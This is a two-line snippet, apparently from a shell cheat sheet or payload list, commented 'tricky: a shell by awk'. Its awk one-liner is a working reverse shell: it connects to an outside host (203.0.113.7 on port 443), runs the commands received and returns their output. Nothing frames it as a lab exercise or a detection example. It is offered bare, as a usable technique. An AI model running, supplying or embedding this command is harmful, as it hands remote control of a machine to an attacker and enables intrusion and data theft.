# tricky: a shell by awk
awk 'BEGIN{s="/inet/tcp/0/203.0.113.7/443";while(1){printf "> " |& s;if((s |& getline c)<=0)break;while((c |& getline)>0)print $0 |& s;close(c)}}'
